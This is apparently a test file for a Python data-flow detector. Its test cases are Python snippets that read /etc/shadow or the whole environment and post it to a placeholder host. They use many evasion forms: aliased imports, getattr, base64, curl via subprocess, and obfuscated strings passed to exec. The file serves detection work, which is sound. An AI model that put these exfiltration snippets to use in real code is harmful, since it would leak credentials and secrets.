import { expect, it } from "vitest";
import { operationsOf, pythonFlows } from "./behaviour.ts";

const to = "https://in.example.test";
const leaks = (text: string): void => {
  expect(pythonFlows(`import requests, os\n${text}`)).toContainEqual(
    expect.stringMatching(/^reads (?:\/etc\/shadow|env:\*) > sends https:\/\/in\.example\.test/),
  );
};
const secret = 'open("/etc/shadow").read()';

it.each([
  ["a name", `x = ${secret}\nrequests.post("${to}", data=x)`],
  ["an alias of a module", `import requests as r\nr.post("${to}", data=${secret})`],
  ["an imported function", `from requests import post as p\np("${to}", data=${secret})`],
  ["a module by name", `m = __import__("req" + "uests")\nm.post("${to}", data=${secret})`],
  ["a member by name", `getattr(requests, "po" + "st")("${to}", data=${secret})`],
  ["an f-string", `x = ${secret}\nrequests.get(f"${to}/{x}")`],
  ["concatenation", `x = ${secret}\nrequests.get("${to}/?q=" + x)`],
  ["format", `requests.get("${to}/{}".format(${secret}))`],
  ["percent", `requests.get("${to}/%s" % ${secret})`],
  ["a tuple", `a, b = ${secret}, 1\nrequests.post("${to}", data=a)`],
  ["an augmented assignment", `x = ""\nx += ${secret}\nrequests.post("${to}", data=x)`],
  ["with", `with open("/etc/shadow") as f:\n    x = f.read()\nrequests.post("${to}", data=x)`],
  ["try", `try:\n    x = ${secret}\nexcept Exception:\n    x = ""\nrequests.post("${to}", data=x)`],
  ["a branch", `x = ""\nif os.name:\n    x = ${secret}\nelse:\n    pass\nrequests.post("${to}", data=x)`],
  ["a loop", `x = []\nfor p in ["/etc/shadow", "b"]:\n    x.append(open(p).read())\nrequests.post("${to}", json=x)`],
  ["what the first round leaves", `a = ""\nwhile True:\n    requests.post("${to}", data=a)\n    a = ${secret}`],
  ["a comprehension", `requests.post("${to}", json=[open(p).read() for p in ["/etc/shadow"]])`],
  ["a dictionary", `d = {"a": {"b": ${secret}}}\nrequests.post("${to}", json=d["a"]["b"])`],
  ["an entry put in", `d = {}\nd["k"] = ${secret}\nrequests.post("${to}", json=d)`],
  ["a function's result", `def f():\n    return ${secret}\nrequests.post("${to}", data=f())`],
  ["a parameter", `def f(a, *, b=None):\n    requests.post("${to}", data=b)\nf(1, b=${secret})`],
  ["a default", `def f(x, url="${to}"):\n    requests.post(url, data=x)\nf(${secret})`],
  ["a lambda", `f = lambda x: requests.post("${to}", data=x)\nf(${secret})`],
  [
    "a thread",
    `import threading\ndef f(x):\n    requests.post("${to}", data=x)\nthreading.Thread(target=f, args=(${secret},)).start()`,
  ],
  [
    "a global",
    `x = ""\ndef f():\n    global x\n    x = ${secret}\ndef g():\n    requests.post("${to}", data=x)\nf()\ng()`,
  ],
  [
    "an instance",
    `class A:\n    def __init__(self, p):\n        self.x = open(p).read()\n    def send(self):\n        requests.post("${to}", data=self.x)\na = A("/etc/shadow")\na.send()`,
  ],
  [
    "an inherited method",
    `class A:\n    def up(self, x):\n        requests.post("${to}", data=x)\nclass B(A):\n    pass\nB().up(${secret})`,
  ],
  ["a generator", `def f():\n    yield ${secret}\nfor x in f():\n    requests.post("${to}", data=x)`],
  ["the walrus", `if (x := ${secret}):\n    requests.post("${to}", data=x)`],
  ["all of the environment", `requests.post("${to}", json=dict(os.environ))`],
  ["the environment item by item", `requests.post("${to}", json={k: v for k, v in os.environ.items()})`],
  ["a session", `with requests.Session() as s:\n    s.post("${to}", data=${secret})`],
  ["encoding", `import base64\nx = base64.b64encode(${secret}.encode()).decode()\nrequests.post("${to}", data=x)`],
  ["a path object", `from pathlib import Path\nrequests.post("${to}", data=(Path("/etc") / "shadow").read_text())`],
  ["a request object", `import urllib.request as u\nu.urlopen(u.Request("${to}", data=${secret}.encode()))`],
  ["a command", `x = ${secret}\nos.system(f"curl -d '{x}' ${to}")`],
  ["words of a command", `import subprocess\nx = ${secret}\nsubprocess.run(["curl", "-d", x, "${to}"])`],
  [
    "a file in between",
    `open("/tmp/stash", "w").write(${secret})\nrequests.post("${to}", data=open("/tmp/stash").read())`,
  ],
  ["a function that nobody calls", `def later():\n    requests.post("${to}", data=${secret})`],
  [
    "async",
    `import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.post("${to}", data=${secret})`,
  ],
])("follows data through %s", (_, text) => leaks(text));

it.each([
  ["what was overwritten", `x = ${secret}\nx = "a"\nrequests.post("${to}", data=x)`],
  ["another entry of a dictionary", `d = {"a": ${secret}, "b": 1}\nrequests.post("${to}", data=d["b"])`],
  ["another parameter", `def f(a, b):\n    requests.post("${to}", data=b)\nf(${secret}, 1)`],
  [
    "a name of the same spelling elsewhere",
    `def f():\n    x = ${secret}\ndef g(x):\n    requests.post("${to}", data=x)\ng(1)`,
  ],
  ["one variable of the environment", `requests.post("${to}", data=os.environ["LANG"])`],
])("does not take for a flow %s", (_, text) => {
  const flows = pythonFlows(`import requests, os\n${text}`);
  expect(flows.filter((flow) => /shadow|env:\*/.test(flow) && /sends/.test(flow))).toEqual([]);
});

it.each([
  ["joined over lines", '"ht" \\\n"tp://" + "x.test"', "http://x.test"],
  ["a joined list", '"".join(["a", "b"])', "ab"],
  ["character codes", '"".join(chr(c) for c in [104, 105])', "hi"],
  ["mapped codes", '"".join(map(chr, [104, 105]))', "hi"],
  ["bytes", "bytes([104, 105]).decode()", "hi"],
  ["reversed", '"ih"[::-1]', "hi"],
  ["replaced", '"hXi".replace("X", "")', "hi"],
  ["base64", '__import__("base64").b64decode("aGk=").decode()', "hi"],
  ["hexadecimal", 'bytes.fromhex("6869").decode()', "hi"],
  ["rot13", '__import__("codecs").decode("uv", "rot13")', "hi"],
  ["escapes", String.raw`"\x68\u0069"`, "hi"],
])("computes a constant: %s", (_, expression, text) => {
  expect(operationsOf(`exec(${expression})`)).toContain(`evaluates ${text}`);
});

it("tells what is decoded before it is run, under any name", () => {
  expect(pythonFlows("import base64\nrun = exec\nx = base64.b64decode(DATA)\nrun(x)")).toContain(
    "decodes base64 > evaluates …",
  );
});
